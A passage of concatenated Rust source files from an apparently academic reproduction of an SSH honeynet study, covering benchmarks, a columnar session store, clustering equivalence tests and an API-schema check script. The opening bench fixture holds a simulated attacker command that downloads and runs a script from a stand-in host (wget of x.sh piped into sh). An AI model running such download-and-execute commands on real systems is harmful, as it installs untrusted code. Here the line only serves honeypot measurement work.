                client_port: 4000 + (i as u16),
                protocol: honeypot::Protocol::Ssh,
                start: hutil::Date::new(2022, 5, 1)
                    .at(0, 0, 0)
                    .plus_secs(i as i64 * 60),
                client_version: Some("SSH-2.0-Go".into()),
                logins: vec![("root".into(), "root".into())],
                commands: vec!["cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh".into()],
                idle_out: false,
            })
        })
        .collect();
    let log = to_cowrie_log(&sessions);
    // Every 13th line corrupted: the import keeps scanning past failures.
    let corrupted: String = log
        .lines()
        .enumerate()
        .map(|(i, l)| {
            if i % 13 == 0 {
                format!("{{corrupt {l}\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    c.bench_function("cowrie_lossy_import_200_sessions", |b| {
        b.iter(|| black_box(from_cowrie_log_lossy(black_box(&corrupted)).sessions.len()))
    });
}

criterion_group!(
    substrates,
    bench_sha256,
    bench_base64,
    bench_regex_engine,
    bench_dld,
    bench_shell,
    bench_wire_dialogue,
    bench_session_sim,
    bench_outage_schedule,
    bench_cowrie_lossy_import,
);
criterion_main!(substrates);
