//! Interned/triangular vs naive §6 clustering throughput.
//!
//! Like the classify bench, this is a plain timing loop with its own JSON
//! writer (`BENCH_cluster.json` via `scripts/bench_snapshot.sh`): the
//! vendored criterion has no machine-readable output. Both paths run the
//! same end-to-end pipeline — distance-matrix build plus the k-selection
//! sweep — over the same signature corpus extracted from the shared
//! benchmark dataset:
//!
//! * **naive** — the pre-optimisation path kept verbatim in
//!   `cluster::naive`: dense `n × n` matrix over heap `String` tokens,
//!   fresh DP rows per pair, per-cluster member re-filtering.
//! * **interned** — the rebuilt hot path: `u32`-interned tokens, packed
//!   upper triangle filled by the tile scheduler with per-worker scratch,
//!   FastPAM-style cached k-medoids.
//!
//! The two pipelines are asserted byte-identical (every matrix cell, every
//! medoid/assignment, every sweep tuple) *before* any timing, so the ratio
//! measures representation and scheduling only — never a different answer.
//!
//! ```text
//! cargo bench --bench cluster                    # print the numbers
//! cargo bench --bench cluster -- --json OUT.json # also write the snapshot
//! cargo bench --bench cluster -- --smoke         # tier-1: tiny corpus, 1 run
//! cargo bench --bench cluster -- --scaling       # EXPERIMENTS.md prefix table
//! ```

use botnet::{generate_dataset, DriverConfig};
use honeylab_bench::dataset;
use honeylab_core::cluster::{self, naive, DistanceMatrix};
use honeylab_core::{report, tokens};
use std::hint::black_box;
use std::time::Instant;

/// The k-selection sweep the experiments binary runs (Figs. 5/6).
const KS: &[usize] = &[10, 30, 60, 90, 120];

/// Unique signatures + session weights of the file-dropping sessions, the
/// exact dedup the §6 pipeline performs in `report::cluster_analysis`.
fn corpus(sessions: &[honeypot::SessionRecord]) -> (Vec<Vec<String>>, Vec<u64>) {
    let mut ix = std::collections::HashMap::new();
    let mut signatures: Vec<Vec<String>> = Vec::new();
    let mut weights: Vec<u64> = Vec::new();
    for s in report::command_sessions(sessions) {
        if s.dropped_hashes().next().is_none() || s.uris.is_empty() {
            continue;
        }
        let sig = tokens::signature(&s.command_text());
        match ix.get(&sig) {
            Some(&i) => weights[i] += 1,
            None => {
                ix.insert(sig.clone(), signatures.len());
                signatures.push(sig);
                weights.push(1);
            }
        }
    }
    (signatures, weights)
}

/// Best-of-`runs` wall time of `f`, in seconds. `f` returns a checksum so
/// the pipeline cannot be optimized away.
fn best_secs(mut f: impl FnMut() -> u64, runs: usize) -> f64 {
    let mut best = f64::INFINITY;
    for _ in 0..runs {
        let t = Instant::now();
        black_box(f());
        best = best.min(t.elapsed().as_secs_f64());
    }
    best
}

/// Checksum over a sweep result (k, wcss, silhouette) — bit-exact, so both
/// paths must produce identical floats to produce identical sums.
fn sweep_checksum(sweep: &[(usize, f64, f64)]) -> u64 {
    sweep.iter().fold(0u64, |acc, &(k, w, s)| {
        acc.wrapping_mul(0x9E37_79B9_7F4A_7C15)
            .wrapping_add(k as u64)
            .wrapping_add(w.to_bits())
            .wrapping_add(s.to_bits())
    })
}

/// Times both pipelines over growing prefixes of the corpus and prints the
/// EXPERIMENTS.md cluster-scaling markdown table.
fn scaling_table(signatures: &[Vec<String>], weights: &[u64], ks: &[usize]) {
    println!("| signatures | naive build + sweep | interned build + sweep | speedup |");
    println!("|---|---|---|---|");
    for &n in &[250usize, 500, 1000, signatures.len()] {
        if n > signatures.len() {
            continue;
        }
        let (sigs, ws) = (&signatures[..n], &weights[..n]);
        let ks: Vec<usize> = ks.iter().copied().filter(|&k| k <= n).collect();
        let run_naive = || {
            let m = naive::DenseMatrix::build(sigs);
            sweep_checksum(&naive::sweep_k(&m, ws, &ks, 42))
        };
        let run_fast = || {
            let m = DistanceMatrix::build(sigs);
            sweep_checksum(&cluster::sweep_k(&m, ws, &ks, 42))
        };
        assert_eq!(run_naive(), run_fast(), "checksums diverged at n={n}");
        let naive_secs = best_secs(run_naive, 2);
        let fast_secs = best_secs(run_fast, 2);
        println!(
            "| {n} | {naive_secs:.3} s | {fast_secs:.3} s | {:.1}× |",
            naive_secs / fast_secs
        );
    }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let smoke = args.iter().any(|a| a == "--smoke");
    let scaling = args.iter().any(|a| a == "--scaling");
    let json_path = args
        .iter()
        .position(|a| a == "--json")
        .and_then(|i| args.get(i + 1))
        .cloned();

    let small;
    let sessions: &[honeypot::SessionRecord] = if smoke {
        small = generate_dataset(&DriverConfig::test_scale(42));
        &small.sessions
    } else {
        &dataset().sessions
    };
    let (signatures, weights) = corpus(sessions);
    let n = signatures.len();
    let ks: Vec<usize> = KS.iter().copied().filter(|&k| k <= n.max(1)).collect();
    let ks = if ks.is_empty() { vec![1] } else { ks };
    eprintln!(
        "cluster bench: {} signatures ({} sessions), ks {:?}{}",
        n,
        weights.iter().sum::<u64>(),
        ks,
        if smoke { " [smoke]" } else { "" }
    );
    if scaling {
        scaling_table(&signatures, &weights, KS);
        return;
    }

    // ------------------------------------------------- equivalence gate
    // Every cell, every clustering, every sweep tuple must match before
    // the timings mean anything.
    let dense = naive::DenseMatrix::build(&signatures);
    let packed = DistanceMatrix::build(&signatures);
    for i in 0..n {
        for j in 0..n {
            assert_eq!(
                packed.get(i, j),
                dense.get(i, j),
                "matrix cell ({i}, {j}) diverged"
            );
        }
    }
    for &k in &ks {
        let fast = cluster::k_medoids(&packed, &weights, k, 42);
        let slow = naive::k_medoids(&dense, &weights, k, 42);
        assert_eq!(fast.medoids, slow.medoids, "medoids diverged at k={k}");
        assert_eq!(
            fast.assignment, slow.assignment,
            "assignment diverged at k={k}"
        );
    }
    let sweep_fast = cluster::sweep_k(&packed, &weights, &ks, 42);
    let sweep_slow = naive::sweep_k(&dense, &weights, &ks, 42);
    assert_eq!(sweep_fast, sweep_slow, "k-sweep diverged");
    eprintln!("equivalence: all cells, clusterings, and sweeps identical");
    drop((dense, packed));

    // ---------------------------------------------------------- timing
    // End-to-end: matrix build + full k-selection sweep, per ISSUE.
    let run_naive = || {
        let m = naive::DenseMatrix::build(&signatures);
        sweep_checksum(&naive::sweep_k(&m, &weights, &ks, 42))
    };
    let run_fast = || {
        let m = DistanceMatrix::build(&signatures);
        sweep_checksum(&cluster::sweep_k(&m, &weights, &ks, 42))
    };
    assert_eq!(run_naive(), run_fast(), "checksums diverged");
    if smoke {
        println!("cluster bench smoke: OK ({n} signatures)");
        return;
    }

    const RUNS: usize = 3;
    let naive_secs = best_secs(run_naive, RUNS);
    let fast_secs = best_secs(run_fast, RUNS);
    let speedup = naive_secs / fast_secs;

    // Matrix build alone, to show where the time went.
    let naive_build = best_secs(|| naive::DenseMatrix::build(&signatures).len() as u64, RUNS);
    let fast_build = best_secs(|| DistanceMatrix::build(&signatures).len() as u64, RUNS);

    println!("naive    end-to-end {naive_secs:>9.4} s   build {naive_build:>9.4} s");
    println!("interned end-to-end {fast_secs:>9.4} s   build {fast_build:>9.4} s");
    println!(
        "speedup  end-to-end {speedup:>9.2}x   build {:>9.2}x",
        naive_build / fast_build
    );

    if let Some(path) = json_path {
        let json = format!(
            "{{\n  \"bench\": \"cluster\",\n  \"signatures\": {},\n  \"sessions\": {},\n  \"ks\": {:?},\n  \"naive_secs\": {:.6},\n  \"interned_secs\": {:.6},\n  \"naive_build_secs\": {:.6},\n  \"interned_build_secs\": {:.6},\n  \"speedup\": {:.2},\n  \"build_speedup\": {:.2}\n}}\n",
            n,
            weights.iter().sum::<u64>(),
            ks,
            naive_secs,
            fast_secs,
            naive_build,
            fast_build,
            speedup,
            naive_build / fast_build
        );
        std::fs::write(&path, json).expect("write json snapshot");
        eprintln!("wrote {path}");
    }
}
