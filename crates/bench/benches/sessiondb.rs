//! sessiondb storage benches: write throughput, cold out-of-core scans,
//! and the zone-map win — a one-month window scan against the obvious
//! baseline of re-parsing the whole Cowrie JSON log and filtering.
//!
//! The store is built once per bench binary from the shared dataset; the
//! cold-scan benches reopen it every iteration so segment metadata loading
//! is included in the measured cost.

use criterion::{criterion_group, criterion_main, Criterion};
use honeylab_bench::dataset;
use honeypot::{from_cowrie_log_lossy, to_cowrie_log};
use hutil::Date;
use sessiondb::{Store, StoreWriter};
use std::hint::black_box;
use std::path::PathBuf;
use std::sync::OnceLock;

/// The shared on-disk store (written once per bench binary).
fn store_dir() -> &'static PathBuf {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    DIR.get_or_init(|| {
        let dir = std::env::temp_dir().join("honeylab-bench.hsdb");
        std::fs::remove_dir_all(&dir).ok();
        let mut w = StoreWriter::create(&dir).expect("create store");
        for r in &dataset().sessions {
            w.append(r).expect("append");
        }
        let segs = w.finish().expect("finish").len();
        println!(
            "sessiondb bench store: {} sessions in {segs} segments",
            dataset().sessions.len()
        );
        dir
    })
}

/// The same dataset as a Cowrie JSON-lines log (the baseline format).
fn cowrie_log() -> &'static String {
    static LOG: OnceLock<String> = OnceLock::new();
    LOG.get_or_init(|| to_cowrie_log(&dataset().sessions))
}

fn bench_write(c: &mut Criterion) {
    let ds = dataset();
    let dir = std::env::temp_dir().join("honeylab-bench-write.hsdb");
    c.bench_function("sessiondb_write", |b| {
        b.iter(|| {
            std::fs::remove_dir_all(&dir).ok();
            let mut w = StoreWriter::create(&dir).expect("create store");
            for r in &ds.sessions {
                w.append(r).expect("append");
            }
            black_box(w.finish().expect("finish").len())
        })
    });
    std::fs::remove_dir_all(&dir).ok();
}

fn bench_cold_scan(c: &mut Criterion) {
    let dir = store_dir();
    c.bench_function("sessiondb_cold_scan", |b| {
        b.iter(|| {
            let store = Store::open(dir).expect("open store");
            let n = store
                .scan()
                .records()
                .inspect(|r| assert!(r.is_ok()))
                .count();
            black_box(n)
        })
    });
    let workers = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4);
    c.bench_function("sessiondb_cold_par_scan", |b| {
        b.iter(|| {
            let store = Store::open(dir).expect("open store");
            let n: u64 = store
                .par_scan(
                    workers,
                    |acc: &mut u64, batch| *acc += batch.len() as u64,
                    |a, b| a + b,
                )
                .expect("clean store");
            black_box(n)
        })
    });
    // The baseline an analyst without the store pays: re-parse the whole
    // JSON-lines log. The acceptance bar is cold scan beating this.
    let log = cowrie_log();
    c.bench_function("json_reparse_baseline", |b| {
        b.iter(|| black_box(from_cowrie_log_lossy(log).sessions.len()))
    });
}

fn bench_month_scan(c: &mut Criterion) {
    let dir = store_dir();
    let lo = Date::new(2023, 6, 1).at_midnight();
    let hi = Date::new(2023, 7, 1).at_midnight(); // half-open: July 1 excluded
    {
        let store = Store::open(dir).expect("open store");
        let total = store.summary().segments;
        let live = store.segments().filter(|m| m.overlaps(lo, hi)).count();
        println!("zone map: {live}/{total} segments survive the June 2023 window");
        assert!(live < total, "pruning must discard out-of-window segments");
    }
    c.bench_function("sessiondb_month_scan", |b| {
        b.iter(|| {
            let store = Store::open(dir).expect("open store");
            let n = store
                .scan_window(lo, hi)
                .records()
                .inspect(|r| assert!(r.is_ok()))
                .count();
            black_box(n)
        })
    });
    let log = cowrie_log();
    c.bench_function("json_reparse_month_baseline", |b| {
        b.iter(|| {
            let import = from_cowrie_log_lossy(log);
            black_box(
                import
                    .sessions
                    .iter()
                    .filter(|s| s.start >= lo && s.start < hi)
                    .count(),
            )
        })
    });
}

criterion_group!(benches, bench_write, bench_cold_scan, bench_month_scan);
criterion_main!(benches);
