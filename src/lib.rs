//! # honeylab
//!
//! A full Rust reproduction of *"Attacks Come to Those Who Wait: Long-Term
//! Observations in an SSH Honeynet"* (IMC 2025).
//!
//! The paper's dataset — three years of attacks against a 221-sensor
//! Cowrie honeynet — is private, so this workspace rebuilds the entire
//! measurement apparatus: a medium-interaction SSH honeypot over a real
//! (minimal) SSH-2 wire protocol, a calibrated synthetic attacker
//! ecosystem, AS/WHOIS and abuse-intelligence substrates, and the paper's
//! complete analysis pipeline, which regenerates every figure and table.
//!
//! ## Quickstart
//!
//! ```no_run
//! use honeylab::prelude::*;
//!
//! // Generate a (scaled) 33-month honeynet dataset…
//! let dataset = generate_dataset(&DriverConfig::default_scale(42));
//! // …and run the paper's session taxonomy over it.
//! let stats = TaxonomyStats::compute(&dataset.sessions);
//! assert!(stats.ordering_matches_paper());
//! ```
//!
//! See `examples/` for end-to-end reproductions of individual figures and
//! the `honeylab-bench` crate for the criterion harness that regenerates
//! every evaluation artefact.
//!
//! ## Crate map
//!
//! | crate | role |
//! |---|---|
//! | [`hutil`] | SHA-256, base64, civil dates, stats, seed trees |
//! | [`sregex`] | regex engine with lookahead (Table 1 dialect) |
//! | [`netsim`] | event scheduler, IPv4 pools, TCP session model |
//! | [`sshwire`] | minimal SSH-2 transport/auth/exec |
//! | [`asdb`] | historic AS registry (WHOIS-style lookups) |
//! | [`abusedb`] | partial-coverage abuse feeds + IP lists |
//! | [`honeypot`] | Cowrie-like sensor, shell emulator, collector |
//! | [`sessiondb`] | sharded columnar session store, out-of-core scans |
//! | [`serve`] | live TCP front-end: sharded accept loop + worker pool |
//! | [`botnet`] | 40+ bot archetypes + 33-month campaign driver |
//! | [`honeylab_core`] | the paper's analysis pipeline and figures |

pub use abusedb;
pub use asdb;
pub use botnet;
pub use honeylab_core as core;
pub use honeypot;
pub use hutil;
pub use netsim;
pub use serve;
pub use sessiondb;
pub use sregex;
pub use sshwire;
pub use telwire;

/// The most common imports for driving a reproduction end to end.
pub mod prelude {
    pub use crate::core::classify::Classifier;
    pub use crate::core::report;
    pub use crate::core::taxonomy::{SessionClass, TaxonomyStats};
    pub use botnet::{generate_dataset, Dataset, DriverConfig};
    pub use honeypot::{AuthPolicy, SessionRecord};
    pub use hutil::{Date, DateTime, Month};
}
