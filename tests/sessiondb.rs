//! sessiondb end-to-end invariants.
//!
//! Three families of guarantees:
//!
//! 1. **Round trip** — any slice of a generated dataset written through a
//!    `StoreWriter` scans back field-identical, in order, for arbitrary
//!    segment sizes (property test).
//! 2. **Corruption** — truncated or bit-flipped segment files surface as
//!    structured [`SessionDbError`]s, never as panics or silent data.
//! 3. **Equivalence** — the analysis pipeline computes identical §3.3
//!    taxonomy and Table 1 counts whether it reads sessions from a Cowrie
//!    JSON log or streams them out-of-core from a sessiondb store. (The
//!    downloads report is *not* compared: the Cowrie text format cannot
//!    represent every file event, so that round trip is inherently lossy,
//!    while sessiondb is exact.)

use honeylab::core::{AnalysisBuilder, ReportKind, SessionSource};
use honeylab::honeypot::{from_cowrie_log_lossy, to_cowrie_log};
use honeylab::prelude::*;
use honeylab::sessiondb::{is_sessiondb_path, SessionDbError, Store, StoreWriter};
use proptest::prelude::*;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::path::PathBuf;
use std::sync::OnceLock;

/// One shared test-scale dataset; every test slices or copies it.
fn sessions() -> &'static [SessionRecord] {
    static DS: OnceLock<Dataset> = OnceLock::new();
    &DS.get_or_init(|| botnet::generate_dataset(&DriverConfig::test_scale(97)))
        .sessions
}

/// A unique scratch store directory, removed and recreated per call.
fn scratch(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("honeylab-sessiondb-{tag}"));
    std::fs::remove_dir_all(&dir).ok();
    dir
}

fn write_store(dir: &PathBuf, recs: &[SessionRecord], rows_per_segment: usize) {
    let mut w = StoreWriter::with_rows_per_segment(dir, rows_per_segment).expect("create store");
    for r in recs {
        w.append(r).expect("append");
    }
    w.finish().expect("finish");
}

proptest! {
    /// Any window of the dataset, at any segment size, round-trips exactly.
    #[test]
    fn roundtrip_is_field_identical(
        start in 0usize..400,
        len in 0usize..300,
        rows_per_segment in 1usize..64,
        case in 0u32..u32::MAX,
    ) {
        let all = sessions();
        let start = start.min(all.len());
        let slice = &all[start..(start + len).min(all.len())];
        let dir = scratch(&format!("rt-{case}"));
        write_store(&dir, slice, rows_per_segment);

        let store = Store::open(&dir).expect("open store");
        prop_assert_eq!(store.summary().rows, slice.len() as u64);
        let back: Vec<SessionRecord> = store
            .scan()
            .records()
            .collect::<Result<_, _>>()
            .expect("clean store scans");
        prop_assert_eq!(&back[..], slice);
        std::fs::remove_dir_all(&dir).ok();
    }
}

#[test]
fn empty_store_roundtrips() {
    let dir = scratch("empty");
    write_store(&dir, &[], 8);
    assert!(
        is_sessiondb_path(&dir),
        "manifest marks even an empty store"
    );
    let store = Store::open(&dir).expect("open empty store");
    let s = store.summary();
    assert_eq!((s.segments, s.rows), (0, 0));
    assert_eq!(store.scan().records().count(), 0);
    std::fs::remove_dir_all(&dir).ok();
}

/// Scans the whole store, forcing full decode, and returns the first error.
fn scan_error(dir: &PathBuf) -> Option<SessionDbError> {
    let store = match Store::open(dir) {
        Ok(s) => s,
        Err(e) => return Some(e),
    };
    let err = store.scan().records().find_map(Result::err);
    drop(store); // the scan iterator borrows the store; end it first
    err
}

#[test]
fn truncated_segments_are_rejected() {
    let all = &sessions()[..120];
    let dir = scratch("trunc");
    write_store(&dir, all, 32);
    let seg = dir.join("seg-000001.hsdb");
    let bytes = std::fs::read(&seg).expect("segment exists");

    let mut rng = StdRng::seed_from_u64(0xdead);
    for _ in 0..40 {
        let keep = rng.random_range(0..bytes.len());
        std::fs::write(&seg, &bytes[..keep]).unwrap();
        let err = scan_error(&dir);
        assert!(
            err.is_some(),
            "truncation to {keep} of {} bytes must be detected",
            bytes.len()
        );
    }
    // Restoring the original bytes heals the store.
    std::fs::write(&seg, &bytes).unwrap();
    assert!(scan_error(&dir).is_none());
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bit_flips_are_rejected_or_leave_data_intact() {
    let all = &sessions()[..120];
    let dir = scratch("flip");
    write_store(&dir, all, 32);
    let seg = dir.join("seg-000000.hsdb");
    let bytes = std::fs::read(&seg).expect("segment exists");

    let mut rng = StdRng::seed_from_u64(0xbeef);
    for _ in 0..60 {
        let mut bad = bytes.clone();
        let i = rng.random_range(0..bad.len());
        bad[i] ^= 1 << rng.random_range(0..8u32);
        std::fs::write(&seg, &bad).unwrap();
        // A flipped bit must never pass CRC silently: either the store
        // errors, or (flip in already-ignored padding — none exists in
        // this format, but keep the invariant honest) data is identical.
        match scan_error(&dir) {
            Some(_) => {}
            None => {
                let store = Store::open(&dir).expect("reopens");
                let back: Vec<SessionRecord> =
                    store.scan().records().map(|r| r.expect("scans")).collect();
                assert_eq!(&back[..], all, "undetected flip must not alter data");
            }
        }
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn missing_manifest_is_not_a_store() {
    let dir = scratch("nostore");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("whatever.txt"), "hi").unwrap();
    assert!(!is_sessiondb_path(&dir));
    assert!(matches!(
        Store::open(&dir),
        Err(SessionDbError::NotAStore { .. })
    ));
    std::fs::remove_dir_all(&dir).ok();
}

/// Analysis over a sessiondb scan and over a Cowrie-log round trip must
/// agree on every §3.3 taxonomy figure and every Table 1 category count.
#[test]
fn analysis_equivalence_sessiondb_vs_cowrie() {
    let all = sessions();
    let dir = scratch("equiv");
    write_store(&dir, all, 256);
    let store = Store::open(&dir).expect("open store");

    let import = from_cowrie_log_lossy(&to_cowrie_log(all));
    assert!(import.errors.is_empty(), "clean log parses cleanly");

    // One builder pass per source; both must agree report for report.
    let selection = [ReportKind::Taxonomy, ReportKind::Categories];
    let via_db = AnalysisBuilder::new(SessionSource::Store(&store))
        .reports(selection)
        .run()
        .expect("clean store scans");
    let via_log = AnalysisBuilder::new(SessionSource::Memory(&import.sessions))
        .reports(selection)
        .run()
        .expect("memory source is infallible");

    assert_eq!(via_db.sessions, via_log.sessions);
    assert_eq!(
        via_db.taxonomy, via_log.taxonomy,
        "taxonomy must not depend on the storage format"
    );
    assert_eq!(
        via_db.categories, via_log.categories,
        "Table 1 counts must not depend on the storage format"
    );
    let (cov_db, cov_log) = (via_db.coverage.unwrap(), via_log.coverage.unwrap());
    assert!((cov_db - cov_log).abs() < 1e-12);
    std::fs::remove_dir_all(&dir).ok();
}

/// `par_scan` agrees with the serial scan whatever the worker count.
#[test]
fn par_scan_matches_serial_scan() {
    let all = &sessions()[..500];
    let dir = scratch("par");
    write_store(&dir, all, 64);
    let store = Store::open(&dir).expect("open store");
    let serial = store
        .scan()
        .records()
        .inspect(|r| assert!(r.is_ok()))
        .count() as u64;
    for workers in [1, 2, 7, 64] {
        let n = store
            .par_scan(
                workers,
                |acc: &mut u64, batch| *acc += batch.len() as u64,
                |a, b| a + b,
            )
            .expect("par_scan");
        assert_eq!(n, serial, "worker count {workers} changes nothing");
    }
    std::fs::remove_dir_all(&dir).ok();
}
