//! Property-based equivalence suite for the §6 clustering engine rebuild
//! (interning, packed triangular matrix, banded DLD, cached k-medoids).
//! Every optimisation must be *invisible* in the output:
//!
//! 1. **Interned DLD ≡ string DLD** — interning tokens to `u32` ids (and
//!    reusing DP scratch rows) cannot change any distance.
//! 2. **Packed triangle ≡ dense oracle** — `DistanceMatrix::get(i, j)`
//!    must match the old dense `n × n` build cell for cell, stay
//!    symmetric, and keep a zero diagonal.
//! 3. **Banded DLD ≡ full DLD within the band** — `dld_banded(a, b, w)`
//!    is `Some(d)` exactly when `dld(a, b) = d ≤ w`.
//! 4. **Parallel build ≡ serial build** — the tile scheduler produces
//!    bit-identical cells at every thread count.
//! 5. **Cached k-medoids ≡ naive k-medoids** — member-list caching and
//!    FastPAM-style nearest/second maintenance leave `assignment` and
//!    `medoids` byte-identical for any corpus, k, seed, and weights
//!    (zero weights included), and the whole k-sweep (WCSS + silhouette)
//!    bit-identical.

use honeylab_core::cluster::{self, naive, DistanceMatrix};
use honeylab_core::dld::{dld, dld_banded, dld_with_scratch, DldScratch};
use honeylab_core::intern::Interner;
use proptest::prelude::*;

/// Small shared vocabulary (to force token collisions and distance ties);
/// larger draws become fresh synthetic tokens.
const VOCAB: &[&str] = &[
    "cd",
    "/tmp",
    "wget",
    "curl",
    "<URL>",
    "chmod",
    "sh",
    "rm",
    "<NAME>",
    "echo",
    "ok",
    "uname",
    "-a",
    "busybox",
    "<IP>",
    "root:<PW>",
];

fn tok(draw: usize) -> String {
    VOCAB
        .get(draw)
        .map_or_else(|| format!("t{draw}"), |t| (*t).to_string())
}

/// One token signature: 0–11 tokens, mostly from the shared vocabulary.
fn signature() -> impl Strategy<Value = Vec<String>> {
    proptest::collection::vec(0usize..24, 0..12)
        .prop_map(|draws| draws.into_iter().map(tok).collect())
}

/// A signature corpus of up to `max - 1` signatures.
fn corpus(max: usize) -> impl Strategy<Value = Vec<Vec<String>>> {
    proptest::collection::vec(signature(), 0..max)
}

/// A weight pool; corpora index it cyclically so every corpus length gets
/// deterministic weights with zeros included (zeros exercise the
/// silhouette underflow fix and seeding-score ties).
fn weight_pool() -> impl Strategy<Value = Vec<u64>> {
    proptest::collection::vec(0u64..50, 64..=64)
}

fn weights_for(n: usize, pool: &[u64]) -> Vec<u64> {
    (0..n).map(|i| pool[i % pool.len()]).collect()
}

proptest! {
    #[test]
    fn interned_dld_matches_string_dld(a in signature(), b in signature()) {
        let mut interner = Interner::new();
        let ia = interner.intern_tokens(&a);
        let ib = interner.intern_tokens(&b);
        let over_strings = dld(&a, &b);
        prop_assert_eq!(dld(&ia, &ib), over_strings);
        let mut scratch = DldScratch::new();
        prop_assert_eq!(dld_with_scratch(&ia, &ib, &mut scratch), over_strings);
        // Scratch reuse across pairs (including the swapped orientation)
        // must not leak state between calls.
        prop_assert_eq!(dld_with_scratch(&ib, &ia, &mut scratch), over_strings);
        prop_assert_eq!(dld_with_scratch(&ia, &ib, &mut scratch), over_strings);
    }

    #[test]
    fn banded_dld_matches_full_within_band(a in signature(), b in signature(), band in 0usize..10) {
        let full = dld(&a, &b);
        let banded = dld_banded(&a, &b, band);
        if full <= band {
            prop_assert_eq!(banded, Some(full));
        } else {
            prop_assert_eq!(banded, None);
        }
    }

    #[test]
    fn packed_triangle_matches_dense_oracle(sigs in corpus(24)) {
        let packed = DistanceMatrix::build_with_threads(&sigs, 1);
        let dense = naive::DenseMatrix::build(&sigs);
        prop_assert_eq!(packed.len(), dense.len());
        let n = sigs.len();
        prop_assert_eq!(packed.as_packed().len(), n * (n + 1) / 2);
        for i in 0..n {
            prop_assert_eq!(packed.get(i, i), 0.0);
            for j in 0..n {
                // Bitwise f64 equality: both sides are the same
                // `dld / max_len` division.
                prop_assert_eq!(packed.get(i, j), dense.get(i, j), "cell ({}, {})", i, j);
                prop_assert_eq!(packed.get(i, j), packed.get(j, i), "symmetry ({}, {})", i, j);
            }
        }
    }

    #[test]
    fn parallel_build_matches_serial(sigs in corpus(32), threads in 2usize..9) {
        let serial = DistanceMatrix::build_with_threads(&sigs, 1);
        let par = DistanceMatrix::build_with_threads(&sigs, threads);
        prop_assert_eq!(par.as_packed(), serial.as_packed());
    }

    #[test]
    fn banded_build_caps_far_cells_only(sigs in corpus(16), cap in 0.0f64..1.0) {
        let exact = DistanceMatrix::build_with_threads(&sigs, 1);
        let banded = DistanceMatrix::build_banded(&sigs, 1, cap);
        for i in 0..sigs.len() {
            for j in 0..sigs.len() {
                let e = exact.get(i, j);
                if e <= cap {
                    prop_assert_eq!(banded.get(i, j), e, "near cell ({}, {})", i, j);
                } else {
                    prop_assert_eq!(banded.get(i, j), 1.0, "far cell ({}, {})", i, j);
                }
            }
        }
    }

    #[test]
    fn cached_k_medoids_matches_naive(
        sigs in corpus(28),
        pool in weight_pool(),
        k in 1usize..9,
        seed in 0u64..64,
    ) {
        let weights = weights_for(sigs.len(), &pool);
        let m = DistanceMatrix::build_with_threads(&sigs, 1);
        let fast = cluster::k_medoids(&m, &weights, k, seed);
        let slow = naive::k_medoids(&m, &weights, k, seed);
        prop_assert_eq!(fast.medoids, slow.medoids);
        prop_assert_eq!(fast.assignment, slow.assignment);
    }

    #[test]
    fn sweep_is_bit_identical_to_naive(
        sigs in corpus(20),
        pool in weight_pool(),
        seed in 0u64..16,
    ) {
        let weights = weights_for(sigs.len(), &pool);
        let m = DistanceMatrix::build_with_threads(&sigs, 1);
        let ks = [1usize, 2, 3, 5, 8];
        let fast = cluster::sweep_k(&m, &weights, &ks, seed);
        let slow = naive::sweep_k(&m, &weights, &ks, seed);
        // (k, wcss, silhouette) tuples compare exactly: identical float
        // operations in identical order on both paths.
        prop_assert_eq!(fast, slow);
    }

    #[test]
    fn clustering_survives_zero_weight_points(
        sigs in corpus(16),
        seed in 0u64..8,
    ) {
        // All-zero weights: the silhouette used to wrap `0u64 - 1`.
        let weights = vec![0u64; sigs.len()];
        let m = DistanceMatrix::build(&sigs);
        let cl = cluster::k_medoids(&m, &weights, 3, seed);
        let s = cluster::silhouette(&m, &weights, &cl);
        prop_assert!((-1.0..=1.0).contains(&s), "silhouette out of range: {}", s);
        prop_assert_eq!(s, naive::silhouette(&m, &weights, &cl));
        let w = cluster::wcss(&m, &weights, &cl);
        prop_assert!(w == 0.0, "zero weights ⇒ zero wcss, got {}", w);
    }
}
