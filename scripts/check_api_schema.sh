#!/usr/bin/env bash
# Guard the honeylab-api v1 wire format: every document kind the binary can
# emit must match its golden in docs/api_v1/ byte for byte.  A diff here means
# the JSON surface changed; that is a breaking change for dashboard consumers
# and must be deliberate (bump the envelope version or regenerate the goldens
# with the command printed below and call it out in the changelog).
set -euo pipefail
cd "$(dirname "$0")/.."

bin="${HONEYLAB_BIN:-target/release/honeylab}"
if [ ! -x "$bin" ]; then
    bin="target/debug/honeylab"
fi
if [ ! -x "$bin" ]; then
    echo "check_api_schema: no honeylab binary; run cargo build first" >&2
    exit 1
fi

golden_dir="docs/api_v1"
kinds="$("$bin" api-sample)"
fail=0

for kind in $kinds; do
    golden="$golden_dir/$kind.json"
    if [ ! -f "$golden" ]; then
        echo "check_api_schema: missing golden $golden" >&2
        fail=1
        continue
    fi
    if ! diff -u "$golden" <("$bin" api-sample "$kind"); then
        echo "check_api_schema: '$kind' drifted from $golden" >&2
        fail=1
    fi
done

# The reverse direction: a golden with no emitter means a kind was removed
# without cleaning up (or renamed without regenerating).
for golden in "$golden_dir"/*.json; do
    kind="$(basename "$golden" .json)"
    if ! grep -qx "$kind" <<< "$kinds"; then
        echo "check_api_schema: stale golden $golden (no such kind)" >&2
        fail=1
    fi
done

if [ "$fail" -ne 0 ]; then
    echo "" >&2
    echo "If the change is intentional, regenerate with:" >&2
    echo "  for k in \$($bin api-sample); do $bin api-sample \$k > $golden_dir/\$k.json; done" >&2
    exit 1
fi

echo "check_api_schema: all $(wc -w <<< "$kinds") kinds match docs/api_v1"
