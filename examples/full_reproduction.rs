//! Regenerates every table and figure of the paper in one run and prints
//! them as text — the end-to-end reproduction entry point.
//!
//! ```sh
//! cargo run --release --example full_reproduction          # default 1:1000
//! cargo run --release --example full_reproduction -- 4000  # lighter scale
//! ```

use honeylab::core::{cluster, logins, mdrfckr, report, storage_analysis as sa};
use honeylab::prelude::*;

fn main() {
    let scale: u64 = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
